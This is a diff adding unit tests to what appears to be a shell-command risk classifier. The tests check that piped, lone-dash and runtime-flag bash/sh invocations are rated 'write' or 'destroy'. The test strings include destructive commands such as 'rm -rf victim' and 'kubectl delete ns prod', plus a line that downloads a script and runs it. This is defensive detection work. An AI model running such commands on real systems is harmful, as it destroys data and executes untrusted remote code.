@@ -75,3 +75,35 @@ describe('the code of a shell -c', () => {
     expect(scriptArgument('bash', words('+c', 'rm -rf x'))).toBeUndefined();
   });
 });
+
+describe('a shell word ksa cannot read, and a lone -', () => {
+  it.each<[string, RiskLevel]>([
+    // `-` ends the options as `--` does: the next word is the script file, not code read from stdin.
+    ["echo 'rm -rf victim' | bash - deploy.sh", 'write'],
+    ["echo 'rm -rf victim' | sh - deploy.sh", 'write'],
+    ['curl -o i.sh https://example.com/i.sh; bash - i.sh', 'destroy'],
+    ["echo 'rm -rf victim' | bash -", 'destroy'],
+    ["echo 'rm -rf victim' | bash -xs arg", 'destroy'],
+    // A word known only at run time before -c may be options only: the code of -c runs.
+    ['bash "$FLAGS" -c \'rm -rf victim\'', 'destroy'],
+    ['bash $FLAGS -c \'kubectl delete ns prod\'', 'destroy'],
+    ['sh "$FLAGS" -ec \'rm -rf victim\'', 'destroy'],
+    ["bash {{ steps.opts.output.stdout }} -c 'rm -rf victim'", 'destroy'],
+    ['bash "$HOME/bash.opts" -c \'rm -rf victim\'', 'destroy'],
+  ])('%s is %s', async (command, level) => {
+    expect(await classify(command)).toBe(level);
+  });
+
+  it('keeps the rating of the unreadable word when the code reads', async () => {
+    expect(await classify('bash "$FLAGS" -c \'ls -la\'')).toBe(await classify('bash "$FLAGS" x'));
+  });
+
+  it('reads the script after - and the code after an unreadable word', () => {
+    const unread = { text: '"$FLAGS"', hints: ['$FLAGS'] };
+    expect(readsStdinCode('bash', words('-', 'x.sh'))).toBe(false);
+    expect(readsStdinCode('bash', words('-'))).toBe(true);
+    expect(readsStdinCode('bash', words('-xs', 'a'))).toBe(true);
+    expect(shellCode([unread, ...words('-c', 'rm -rf x')], 'bash')).toBe('rm -rf x');
+    expect(shellCode([unread, ...words('x.sh', '-c', 'rm -rf x')], 'bash')).toBeUndefined();
+  });
+});
